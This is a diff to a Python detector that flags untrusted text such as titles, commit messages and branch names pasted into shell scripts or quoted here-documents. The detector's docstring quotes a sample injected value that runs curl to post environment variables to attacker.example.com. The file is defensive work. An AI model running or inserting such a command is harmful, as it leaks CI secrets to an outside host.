@@ -91,8 +91,9 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
     body of a quoted here-document (`cat <<'EOF' > notes.md`, `--body "$(cat <<'EOF'`) given only
     to commands that read it as text (cat, tee, gh, jq ...; no shell, interpreter, `eval`,
     `envsubst` or script file) is info: a branch name holds no line break, and bash expands
-    nothing there. Titles, bodies and commit messages stay: they may hold a line equal to the
-    delimiter, and the lines after it run.
+    nothing there. Titles, bodies and commit messages stay high, with that reason: they may hold
+    a line equal to the delimiter, and the lines after it run (a title too: GitHub's API accepts
+    a line break in one).
 
     Why:
     A comment or branch name such as `"; curl -d "$(env)" https://attacker.example.com #`
@@ -128,7 +129,17 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
                         "here-document's body; only a name equal to the delimiter ends it early",
                     )
                     continue
-                opened_by[key] = opened_by.get(key, False) or not one_line
+                after_many = opened_by.get(key, False)
+                opened_by[key] = after_many or not one_line
+                how = (
+                    " after a value of many lines, which can end the document early: this line then runs as code"
+                    if one_line
+                    else f": a line break in it followed by a line `{doc.delimiter}` ends the document, and the lines"
+                    " after run as code"
+                    + (" (a title can hold a line break: GitHub's API accepts one)" if "title" in text else "")
+                )
+                yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a quoted here-document{how}")
+                continue
             yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")
 
 
